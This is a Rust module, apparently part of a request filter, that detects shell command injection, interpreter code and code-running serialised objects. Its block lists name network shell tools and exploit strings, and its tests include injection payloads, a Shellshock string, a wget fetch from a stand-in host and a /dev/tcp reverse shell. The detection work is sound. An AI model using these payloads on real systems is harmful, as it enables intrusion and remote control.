//! Commands for a shell, code for an interpreter, objects that run when they are read back.

use super::bytes::{has, has_any, is_word, tail};

/// Programs that attackers call, by name. Words that prose is full of (`at`, `w`, `who`, `sort`) count
/// only with a path before or an argument like `-x` or `/x` behind.
const PROGRAMS: &[&[u8]] = &[
    b"cat",
    b"ls",
    b"id",
    b"whoami",
    b"uname",
    b"wget",
    b"curl",
    b"nc",
    b"ncat",
    b"netcat",
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"dash",
    b"ping",
    b"nslookup",
    b"dig",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"ps",
    b"env",
    b"printenv",
    b"chmod",
    b"chown",
    b"rm",
    b"cp",
    b"mv",
    b"touch",
    b"echo",
    b"printf",
    b"python",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"node",
    b"powershell",
    b"pwsh",
    b"cmd",
    b"cmd.exe",
    b"certutil",
    b"net",
    b"dir",
    b"type",
    b"systeminfo",
    b"tasklist",
    b"reg",
    b"sleep",
    b"head",
    b"tail",
    b"tac",
    b"nl",
    b"more",
    b"less",
    b"find",
    b"grep",
    b"awk",
    b"sed",
    b"sudo",
    b"su",
    b"tftp",
    b"ftp",
    b"scp",
    b"ssh",
    b"telnet",
    b"socat",
    b"base64",
    b"xxd",
    b"hexdump",
    b"passwd",
    b"useradd",
    b"crontab",
    b"kill",
    b"killall",
    b"mkfifo",
    b"nohup",
    b"lsof",
    b"hostname",
    b"host",
    b"busybox",
    b"xargs",
    b"tee",
    b"dd",
    b"gcc",
    b"cc",
    b"vi",
    b"vim",
    b"pwd",
    b"cd",
    b"set",
    b"export",
    b"exec",
    b"eval",
    b"source",
    b"wmic",
    b"iwmi",
    b"start",
    b"reboot",
    b"shutdown",
];

/// Programs whose name says it all when a separator stands before it and nothing behind.
const BARE: &[&[u8]] = &[
    b"id",
    b"whoami",
    b"ls",
    b"uname",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"env",
    b"printenv",
    b"pwd",
    b"ps",
    b"dir",
    b"hostname",
    b"reboot",
    b"systeminfo",
    b"tasklist",
    b"sh",
    b"bash",
];

/// Strings of code that no value of an API needs.
pub(super) const CODE: &[(&[u8], &str)] = &[
    (b"/dev/tcp/", "a shell over the network"),
    (b"cmd.exe /c", "cmd.exe"),
    (b"cmd.exe+/c", "cmd.exe"),
    (b"powershell -", "powershell"),
    (b"powershell.exe", "powershell"),
    (b"<?php", "PHP code"),
    (b"<?=", "PHP code"),
    (b"base64_decode(", "PHP code"),
    (b"shell_exec(", "PHP code"),
    (b"passthru(", "PHP code"),
    (b"proc_open(", "PHP code"),
    (b"call_user_func", "PHP code"),
    (b"phpinfo()", "PHP code"),
    (b"print(md5(", "PHP code"),
    (b"$_server[", "PHP code"),
    (b"$_request[", "PHP code"),
    (b"$_post[", "PHP code"),
    (b"$_get[", "PHP code"),
    (b"allow_url_include", "PHP settings"),
    (b"auto_prepend_file", "PHP settings"),
    (b"os.system(", "Python code"),
    (b"subprocess.", "Python code"),
    (b"__import__(", "Python code"),
    (b"__builtins__", "Python code"),
    (b"__globals__", "Python code"),
    (b"__subclasses__", "Python code"),
    (b"child_process", "Node code"),
    (b"process.mainmodule", "Node code"),
    (b"global.process", "Node code"),
    (b"_$$nd_func$$_", "a Node function to be read back"),
    (b"runtime.getruntime", "Java code"),
    (b"getruntime().exec", "Java code"),
    (b"java.lang.runtime", "Java code"),
    (b"java.lang.processbuilder", "Java code"),
    (b"java.lang.system", "Java code"),
    (b"java.lang.class", "Java code"),
    (b"class.module.classloader", "Spring4Shell"),
    (b"class.classloader", "a class loader"),
    (b"@ognl", "OGNL code"),
    (b"#_memberaccess", "OGNL code"),
    (b"xwork.methodaccessor", "OGNL code"),
    (b"com.opensymphony.xwork2", "OGNL code"),
    (b"javax.script.scriptengine", "Java code"),
    (b"org.apache.commons.collections.functors", "Java gadget classes"),
    (b"invokertransformer", "Java gadget classes"),
    (b"templatesimpl", "Java gadget classes"),
    (b"com.sun.rowset.jdbcrowset", "Java gadget classes"),
];

/// What makes a decoded value in lower case a command or code. `coded`: it may hold a string of
/// [`CODE`].
pub(super) fn check(text: &[u8], coded: bool) -> Option<&'static str> {
    if coded && let Some((_, why)) = CODE.iter().find(|(word, _)| has(text, word)) {
        return Some(why);
    }
    if has(text, b"() {") && has_any(text, &[b":;", b"};", b"_; }"]) {
        return Some("a function for bash to import (CVE-2014-6271)");
    }
    let calls = memchr::memchr(b'(', text).is_some();
    separated(text).or_else(|| calls.then(|| called(text)).flatten()).or_else(|| by_path(text))
}

/// Quotes, carets and backslashes inside a name do nothing to a shell: `c'a't`, `w\hoami`. So do
/// unset variables: `cat$u`.
fn plain_name(rest: &[u8], out: &mut [u8; 24]) -> (usize, usize) {
    let (mut length, mut used, mut skip) = (0, 0, false);
    for b in rest.iter().take(48) {
        match b {
            b'\'' | b'"' | b'\\' | b'^' => skip = true,
            b if is_word(*b) || *b == b'.' => {
                let Some(slot) = out.get_mut(length) else { return (0, 0) };
                *slot = *b;
                length += 1;
            }
            _ => break,
        }
        used += 1;
    }
    // A name in quotes alone is a string.
    let quoted = rest.first().is_some_and(|b| matches!(b, b'\'' | b'"')) && skip;
    if quoted && !matches!(rest.get(used), None | Some(b' ' | b';' | b'|' | b'&' | b'`' | b')' | b'\n')) {
        (0, 0)
    } else {
        (length, used)
    }
}

/// `; cat /etc/passwd`, `| id`, `$(whoami)`, `` `id` ``, `&& ls -la`.
fn separated(text: &[u8]) -> Option<&'static str> {
    let mut at = 0;
    while let Some(found) =
        tail(text, at).iter().position(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b'(' | b'\n' | b'{'))
    {
        let here = at + found;
        at = here + 1;
        let sign = text.get(here).copied().unwrap_or_default();
        let before = here.checked_sub(1).and_then(|b| text.get(b)).copied().unwrap_or_default();
        let rest = tail(text, at);
        let doubled = before == sign;
        // A bracket opens a command behind `$`, `<` and `>` only; a line end in a text ends nothing.
        let opens = match sign {
            b'(' | b'{' => matches!(before, b'$' | b'<' | b'>' | b'@') && !(sign == b'{' && before == b'$'),
            b'&' => doubled || rest.first() == Some(&b' '),
            _ => true,
        };
        if !opens {
            continue;
        }
        let rest = rest.trim_ascii_start();
        let rest = rest
            .get(rest.iter().take_while(|b| matches!(b, b'(' | b'{' | b'!' | b' ' | b',')).count()..)
            .unwrap_or_default();
        // `title|price|id` lists names.
        let listed = sign == b'|' && is_word(before) && memchr::memchr_iter(b'|', text).count() > 1;
        let strong = matches!(sign, b'`' | b'|' | b'(' | b'{' | b';') && !listed || doubled;
        if command(rest, sign, strong, text.len() < 96) {
            return Some("a command behind a separator");
        }
    }
    None
}

/// Whether a command line begins here.
fn command(rest: &[u8], sign: u8, strong: bool, short: bool) -> bool {
    let path =
        rest.iter().take_while(|b| is_word(**b) || matches!(b, b'/' | b'.' | b'?' | b'*' | b'[' | b']' | b'-')).count();
    let program = rest.get(..path).unwrap_or_default();
    if [&b"/bin/"[..], b"/usr/", b"/sbin/", b"/???/", b"/etc/", b"/opt/"].iter().any(|p| program.starts_with(p))
        && path > 6
    {
        return true;
    }
    let mut room = [0; 24];
    let (length, used) = plain_name(rest, &mut room);
    let name = room.get(..length).unwrap_or_default();
    if name.is_empty() || !PROGRAMS.contains(&name) {
        return false;
    }
    let behind = tail(rest, used);
    let ended = behind.trim_ascii().is_empty()
        || matches!(behind.first(), Some(b';' | b'|' | b'&' | b')' | b'`' | b'}' | b'\'' | b'"' | b'#' | b'>'));
    let bare = BARE.contains(&name) && ended && strong;
    let ticked = matches!(sign, b'`' | b'(') && ended && strong;
    bare && short || ticked || argument(behind, name)
}

/// Arguments as commands have them: options, paths, addresses, redirections.
fn argument(behind: &[u8], name: &[u8]) -> bool {
    let spaced = behind.first().is_some_and(|b| matches!(b, b' ' | b'\t' | b'<' | b'>' | b'$' | b'+' | b',' | b'%'));
    let argument = behind.trim_ascii_start();
    let argument = argument.strip_prefix(b"+").unwrap_or(argument);
    let sign = match argument.split_first() {
        Some((b'-', rest)) => rest.first().is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'-'),
        Some((b'/' | b'~' | b'$' | b'<' | b'>' | b'*' | b'?' | b'`' | b'{', _)) => true,
        Some((b'.', rest)) => matches!(rest.first(), Some(b'/' | b'.')),
        Some((b'c', rest)) => rest.starts_with(b":"),
        _ => false,
    };
    let address = [&b"http://"[..], b"https://", b"ftp://", b"127.0.0.1", b"localhost", b"c:\\"]
        .iter()
        .any(|a| argument.starts_with(a));
    let numbered = [&b"sleep"[..], b"ping"].contains(&name) && argument.first().is_some_and(u8::is_ascii_digit);
    let host = [&b"ping"[..], b"nslookup", b"dig", b"curl", b"wget", b"host"].contains(&name)
        && argument
            .split(|b| !is_word(*b) && !matches!(b, b'.' | b'-'))
            .next()
            .is_some_and(|h| h.contains(&b'.') && h.len() > 5);
    spaced && (sign || address || numbered || host)
}

/// `system('id')`, `exec("ls")` and the like: a call of an interpreter with a string.
fn called(text: &[u8]) -> Option<&'static str> {
    const CALLS: &[&[u8]] = &[
        b"system",
        b"exec",
        b"popen",
        b"eval",
        b"assert",
        b"execsync",
        b"spawn",
        b"pcntl_exec",
        b"create_function",
        b"require",
        b"include",
    ];
    for call in CALLS {
        for at in memchr::memmem::find_iter(text, call).take(64) {
            let led = at.checked_sub(1).and_then(|b| text.get(b)).is_none_or(|b| !is_word(*b) && *b != b' ');
            let rest = tail(text, at + call.len()).trim_ascii_start();
            let rest = rest.strip_prefix(b"'").or_else(|| rest.strip_prefix(b"\"")).unwrap_or(rest);
            let rest = rest.strip_prefix(b")").unwrap_or(rest).trim_ascii_start();
            let Some((b'(', argument)) = rest.split_first() else { continue };
            let argument = argument.trim_ascii_start();
            let string = argument.first().is_some_and(|b| matches!(b, b'\'' | b'"' | b'$' | b'`'));
            let named = !matches!(*call, b"require" | b"include" | b"assert")
                && (has_any(argument, &[b"base64", b"chr(", b"string."])
                    || BARE.iter().any(|n| argument.starts_with(n) && tail(argument, n.len()).starts_with(b")")));
            if led && (string || named) {
                return Some("a call of an interpreter");
            }
        }
    }
    None
}

/// The whole value is a command: `/bin/cat /etc/x`, `cat /etc/passwd`, `wget http://…`.
fn by_path(text: &[u8]) -> Option<&'static str> {
    for place in [&b"/bin/"[..], b"/usr/bin/", b"/sbin/"] {
        for at in memchr::memmem::find_iter(text, place).take(16) {
            let name = tail(text, at + place.len());
            let length = name.iter().take_while(|b| is_word(**b)).count();
            if name.get(..length).is_some_and(|n| PROGRAMS.contains(&n)) {
                return Some("a program by its path");
            }
        }
    }
    let mut room = [0; 24];
    let (length, used) = plain_name(text, &mut room);
    let name = room.get(..length).unwrap_or_default();
    let known = PROGRAMS.contains(&name)
        && ![&b"find"[..], b"host", b"set", b"type", b"more", b"start", b"source"].contains(&name);
    // Prose begins with such words too; it does not go on with a path.
    let behind = tail(text, used).trim_ascii_start();
    let target = behind.starts_with(b"/etc/")
        || behind.starts_with(b"-") && has_any(behind, &[b"http", b"/"])
        || behind.starts_with(b"http")
        || behind.starts_with(b"/proc/")
        || behind.starts_with(b"c:\\");
    (known && text.get(used).is_some_and(|b| matches!(b, b' ' | b'\t' | b'+' | b'$' | b'<')) && target)
        .then_some("a command line")
}

/// Objects of Java, PHP, Python, Ruby and .NET that run code when they are read back. Looks at the
/// value as sent and at what its base64 holds.
pub(super) fn object(raw: &[u8], inner: Option<&[u8]>) -> Option<&'static str> {
    for bytes in [Some(raw), inner].into_iter().flatten() {
        if bytes.starts_with(&[0xAC, 0xED, 0, 5]) {
            return Some("a serialised Java object");
        }
        if bytes.starts_with(&[0, 1, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF]) {
            return Some("a serialised .NET object");
        }
        // Pickle: protocol 2 to 5, ends in STOP; harmless ones hold no module that runs things.
        let pickle = matches!(bytes.get(..2), Some([0x80, 2..=5])) && bytes.last() == Some(&b'.');
        if pickle
            && has_any(
                bytes,
                &[b"builtin", b"posix", b"\x02nt", b"subprocess", b"os\nsystem", b"eval", b"exec", b"__reduce"],
            )
        {
            return Some("a pickled Python object that runs code");
        }
        let lines = bytes.contains(&b'\n');
        if lines && has_any(bytes, &[b"cos\nsystem\n", b"cposix\nsystem\n", b"c__builtin__\neval\n", b"csubprocess\n"])
        {
            return Some("a pickled Python object that runs code");
        }
        if matches!(bytes, [b'O' | b'C', b':', b'0'..=b'9', ..]) && has(bytes, b":\"") && has(bytes, b":{") {
            return Some("a serialised PHP object");
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lower(text: &str) -> Option<&'static str> {
        check(text.to_ascii_lowercase().as_bytes(), true)
    }

    #[test]
    fn commands_and_code() {
        for attack in [
            "; cat /et'c/pa'ss'wd",
            "127.0.0.1 && ls /etc",
            "a;id;",
            "| id",
            "`id`",
            "$(whoami)",
            "|/usr/bin/id",
            "a);id|",
            "() { :; }; /bin/bash -c 'x'",
            "cat /etc/passwd",
            "${@print(md5(31337))}",
            "system('id')",
            "eval(base64_decode('eA=='))",
            "x; ping -c 4 10.0.0.1",
            "<?php echo 1 ?>",
            "{{get.__globals__.__builtins__}}",
            "wget http://x.example/a.sh",
            "| /bin/sleep 31 ;",
            "/bin/bash -c \"sh -i>& /dev/tcp/x/1\"",
        ] {
            assert!(lower(attack).is_some(), "{attack}");
        }
    }

    #[test]
    fn prose_names_programs_too() {
        for text in [
            "echo in the mirror",
            "curl and divergence",
            "exec noun",
            "bash away in the gym",
            "zsh is the best!",
            "ls 300 lexus",
            "nc 8000 controller",
            "the Senora found herself a heroine; more than that, she became aware",
            "Tom & Jerry; cat & mouse",
            "Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko",
            "text/html;q=0.8",
            "a|b|id",
            "Mozilla/5.0 (Linux; U; Android 9; en-us)",
            "cat food & dog food",
            "less spicy; more salt",
            "tea (host: ravi)",
            "meet at the café; find me",
            "a; set price 5",
        ] {
            assert_eq!(lower(text), None, "{text}");
        }
    }

    #[test]
    fn objects_that_run() {
        assert!(object(b"\xac\xed\0\x05sr", None).is_some());
        assert!(object(b"x", Some(b"\x80\x04\x95\0\0builtins\x94\x8c\x04eval.")).is_some());
        assert_eq!(object(b"x", Some(b"\x80\x04\x95\0\0__main__\x94\x8c\x06Person.")), None, "a pickle of plain data");
        assert!(object(b"O:8:\"Some\":1:{s:1:\"a\";}", None).is_some());
        assert_eq!(object(b"O:8", None), None);
    }
}
